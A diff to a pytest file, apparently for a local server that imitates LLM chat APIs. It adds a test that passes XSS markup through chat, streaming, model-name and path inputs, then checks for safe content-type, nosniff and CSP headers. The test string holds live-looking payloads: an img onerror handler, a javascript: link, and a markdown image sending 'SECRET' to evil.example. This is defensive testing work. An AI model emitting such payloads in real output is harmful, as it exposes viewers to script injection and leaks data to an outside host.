@@ -237,3 +237,20 @@ def test_under_both_versions_gemini_s_paths_are_refused_in_its_shape(version: st
     path = f"/{version}/models/scripted:generateContent"
     assert api_of(path).name == "gemini"
     shaped(local.get(path), path, 405)
+
+
+@pytest.mark.case("C10")
+def test_markup_in_an_answer_or_a_refusal_is_data_to_whoever_shows_it(local: Served) -> None:
+    markup = "<img src=x onerror=alert(1)>![x](https://evil.example/?q=SECRET)<a href='javascript:alert(1)'>"
+    said = {"messages": [{"role": "user", "content": f"say {markup}"}], "model": "scripted"}
+    answers = [
+        local.post("/v1/chat/completions", said),
+        local.post("/v1/chat/completions", said | {"stream": True}),
+        local.post("/v1/chat/completions", said | {"model": markup}),
+        local.get(f"/v1/models/{markup}"),
+    ]
+    for answer in answers:
+        assert answer.headers["content-type"].split(";")[0] in ("application/json", "text/event-stream")
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert answer.headers["content-security-policy"].startswith("default-src 'self'")
+    assert answers[0].json()["choices"][0]["message"]["content"] == markup
